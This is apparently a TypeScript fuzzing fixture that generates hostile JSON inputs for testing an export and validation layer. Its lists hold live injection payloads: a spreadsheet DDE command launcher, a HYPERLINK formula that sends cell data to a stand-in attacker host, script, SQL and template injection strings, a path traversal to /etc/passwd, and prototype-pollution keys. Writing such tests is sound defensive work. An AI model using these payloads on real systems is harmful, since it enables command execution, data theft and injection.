import fc from "fast-check";
import { Deep } from "./toJsonText";

/** Text a spreadsheet would run as a formula if an export wrote it as is. */
export const FORMULA_STRINGS = [
  "=cmd|' /C calc'!A0",
  "=HYPERLINK(\"http://pirate.example/?d=\"&A1;\"cliquez\")",
  "+SUM(1;2)",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "=1+1",
  "=SOMME(D12:D40)",
  "=DATE(2025;1;1)",
] as const;

/** Unicode that breaks naive code: NUL, bidi override, zero-width, BOM, astral and combining characters, a lone surrogate. */
export const UNICODE_STRINGS = [
  "\u0000",
  "a\u0000b",
  "\u202eevil\u202c",
  "\u200b\u200c\u200d",
  "\ufeffDijon",
  "𝔇𝔦𝔧𝔬𝔫",
  "👨‍👩‍👧‍👦",
  "e\u0301te\u0301",
  "\ud800",
  "\udfff\ud800",
  "ﷺ",
  "Ⅻ",
  "١٢٣",
  "\u2028\u2029",
  "<script>alert(1)</script>",
  "'; DROP TABLE dossiers; --",
  "../../../../etc/passwd",
  "${process.exit()}",
  "{{constructor.constructor('return process')()}}",
] as const;

/** Numbers at the edges of what JSON and doubles hold. */
export const EDGE_NUMBERS = [
  1e308,
  -1e308,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  Number.MAX_SAFE_INTEGER + 2,
  -(2 ** 63),
  2 ** 31,
  2 ** 32,
  1e21,
  1e-320,
  -0,
  -1,
  0.1 + 0.2,
  3.5,
  1e15 + 0.3,
] as const;

/** Numbers as a person might type them, right and wrong. */
export const NUMBER_TEXTS = ["1 234", "1,5", "12e3", "0x10", " 3 ", "-1", "∞", "NaN", "3 postes", "", "1\u00a0234", "1.234,56", "٣"] as const;

/** Any value a hostile client may put anywhere in a JSON document. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom<unknown>(...EDGE_NUMBERS) },
  { weight: 2, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
  { weight: 2, arbitrary: fc.integer() },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(...NUMBER_TEXTS) },
  { weight: 3, arbitrary: fc.constantFrom<unknown>(...FORMULA_STRINGS) },
  { weight: 3, arbitrary: fc.constantFrom<unknown>(...UNICODE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer({ min: 2_001, max: 200_000 }).map((length) => "x".repeat(length)) },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(true, false, null, [], {}, "", "2025-02-30", "2025-01-15T00:00:00Z", "15/01/2025") },
  { weight: 1, arbitrary: fc.tuple(fc.integer({ min: 10, max: 20_000 }), fc.constantFrom("array", "object") as fc.Arbitrary<"array" | "object">).map(([depth, kind]) => new Deep(depth, kind)) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** Keys a hostile client may add to any object. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "", " ", "sets", "quantity", "description", "partitionKey", "rowKey", "odata.etag", "PartitionKey"),
  fc.string({ unit: "binary", maxLength: 20 }),
);

/** Hostile numbers that still are JSON numbers (they pass the schema's types and reach the checks). */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(...EDGE_NUMBERS),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer({ min: -1_000, max: 1_000_000 }),
);

/** Hostile strings: formulas, unicode traps, random and long text (they pass the schema's types where text is free). */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...FORMULA_STRINGS),
  fc.constantFrom(...UNICODE_STRINGS),
  fc.constantFrom(...NUMBER_TEXTS),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.integer({ min: 1_990, max: 2_010 }).map((length) => "é".repeat(length)),
);
